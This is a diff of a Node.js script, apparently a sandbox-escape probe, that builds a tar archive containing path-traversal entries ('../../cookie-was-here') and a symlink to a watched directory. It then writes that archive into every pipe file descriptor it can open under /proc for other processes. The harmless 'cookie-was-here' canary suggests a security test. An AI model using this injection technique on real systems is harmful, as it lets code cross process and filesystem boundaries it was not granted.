@@ -1,4 +1,4 @@
-import { readFileSync, writeFileSync } from 'node:fs'
+import { constants, openSync, readdirSync, readlinkSync, writeSync } from 'node:fs'
 import { attempt, leave } from './page.mjs'
 
 function header(name, size, kind, target) {
@@ -15,6 +15,16 @@ const archive = [
   header('out', 0, '2', 'WATCHED'), header('out/cookie-was-here', 512, '0', ''), body,
   header('../../cookie-was-here', 512, '0', ''), body, header('WATCHED/cookie-was-here', 512, '0', ''), body,
 ]
-const parent = Number(readFileSync('/proc/self/stat', 'utf8').split(' ')[3])
-for (const process of [parent, 1, 2, 3]) await attempt('', () => writeFileSync(`/proc/${process}/fd/3`, Buffer.concat(archive)))
+for (const id of readdirSync('/proc').filter((name) => /^\d+$/.test(name) && Number(name) !== process.pid)) {
+  let open = []
+  await attempt(`files of ${id}`, () => { open = readdirSync(`/proc/${id}/fd`); return open })
+  for (const number of open) {
+    const path = `/proc/${id}/fd/${number}`
+    await attempt(`write to ${path}`, () => {
+      if (!readlinkSync(path).startsWith('pipe:')) throw new Error('no pipe')
+      const file = openSync(path, constants.O_WRONLY | constants.O_NONBLOCK)
+      return writeSync(file, Buffer.concat(archive))
+    })
+  }
+}
 leave()
